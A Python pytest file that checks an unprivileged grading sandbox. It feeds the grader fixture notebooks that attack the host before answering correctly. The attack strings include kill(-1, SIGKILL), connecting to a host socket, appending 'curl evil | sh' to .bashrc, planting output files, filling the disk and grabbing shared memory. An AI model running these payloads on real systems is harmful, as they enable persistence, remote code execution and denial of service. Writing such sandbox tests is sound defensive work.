"""The host protected when the grader is unprivileged (issue 9, items 9, 10, 12), as it really
happens: the CLI runs as a uid of its own (65533, so that a kill(-1) getting through could only
hit this test's processes) and grades a folder of notebooks that attack the grading user."""

from __future__ import annotations

import json
import os
import shutil
import socket
import tempfile
from pathlib import Path

import nbfactory as f
import pytest
from gradingkit import processes_mentioning
from test_adversarial import CORRECT
from test_unprivileged import _run_unprivileged

from nnlite.grading.report import validate_report
from nnlite.grading.sandbox import _landlock_abi

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        os.geteuid() != 0 or shutil.which("unshare") is None, reason="needs root to set up"
    ),
]

UID = 65533
SHM_KEY = 0x6E6E4242


def _attack(body: str) -> str:
    """normalize_rows that attacks first (swallowing its own failure), then answers right."""
    honest = CORRECT.replace("def normalize_rows(", "def _honest(")
    lines = "\n".join("    " + ln for ln in body.strip().split("\n"))
    return (
        f"import ctypes, os, signal, socket\n{honest}\n\ndef normalize_rows(x):\n"
        f"    try:\n    {lines.replace(chr(10), chr(10) + '    ')}\n"
        f"    except OSError:\n        pass\n    return _honest(x)"
    )


def _cases(sock: Path, bashrc: Path, out: Path) -> dict[str, str]:
    return {
        "killall": "os.kill(-1, signal.SIGKILL)",
        "unixsock": f"s = socket.socket(socket.AF_UNIX)\ns.connect({str(sock)!r})",
        "bashrc": f"open({str(bashrc)!r}, 'a').write('curl evil | sh')",
        "outfolder": f"open({str(out / 'planted.json')!r}, 'w').write('{{}}')",
        "hidedir": "os.makedirs('a/b')\nopen('a/b/f', 'w').write('x')\nos.chmod('a', 0)",
        "disk": "for i in range(24):\n    open('f%d' % i, 'wb').write(b'x' * ((8 << 20) - 1))",
        "shm": (
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            f"if libc.shmget({SHM_KEY}, 1 << 20, 0o1000 | 0o666) < 0:\n"
            "    raise OSError(ctypes.get_errno(), 'shmget')"
        ),
    }


@pytest.mark.parametrize("level", ["landlock", "process"])
def test_unprivileged_host_attacks(level):
    if level == "landlock" and _landlock_abi() == 0:
        pytest.skip("no Landlock")
    base = Path(tempfile.mkdtemp(prefix="nnlite-host-"))
    srv = socket.socket(socket.AF_UNIX)
    try:
        os.chmod(base, 0o755)
        folder, out, tmpdir, home = base / "subs", base / "out", base / "tmp", base / "home"
        for d in (folder, out, tmpdir, home):
            d.mkdir()
            os.chown(d, UID, UID)
        bashrc = home / ".bashrc"
        bashrc.write_text("# the grading user's shell\n")
        os.chown(bashrc, UID, UID)
        sock = base / "agent.sock"
        srv.bind(str(sock))
        os.chmod(sock, 0o777)
        srv.listen(5)
        srv.setblocking(False)
        cases = _cases(sock, bashrc, out)
        for cid, body in cases.items():
            nb = f.fixture_notebook({"normalize_rows": _attack(body)})
            dst = f.write(nb, folder / f"99_fixture-{cid}.ipynb")
            os.chmod(dst, 0o644)
        res = _run_unprivileged(folder, out, tmpdir, level, uid=UID, home=home)
        assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
        for cid in cases:
            rep = json.loads((out / f"99_fixture-{cid}.json").read_text())  # the grader lived
            assert validate_report(rep) == [] and rep["isolation"] == level
            nr = rep["exercises"][0]
            if cid == "disk" and level == "landlock":
                assert (nr["status"], nr["score"]) == ("error", 0), nr
                assert "disk limit exceeded" in json.dumps(nr), nr
            else:
                # Every attack failed inside the sandbox; the honest part still counts.
                assert (nr["status"], nr["score"]) == ("passed", 4), (cid, nr)
            assert rep["score"] == rep["max_score"] - (
                4 if (cid, level) == ("disk", "landlock") else 0
            )
        assert bashrc.read_text() == "# the grading user's shell\n"
        assert not (out / "planted.json").exists()
        with pytest.raises(BlockingIOError):
            srv.accept()  # nobody connected to the host's socket
        shm = Path("/proc/sysvipc/shm").read_text().split("\n")[1:]
        assert str(SHM_KEY) not in [line.split()[0] for line in shm if line.strip()]
        assert list(tmpdir.iterdir()) == []  # the mode-000 folder went too
        assert processes_mentioning(str(base)) == []
    finally:
        srv.close()
        os.system(f"chmod -R u+rwx {base} 2>/dev/null; rm -rf {base}")
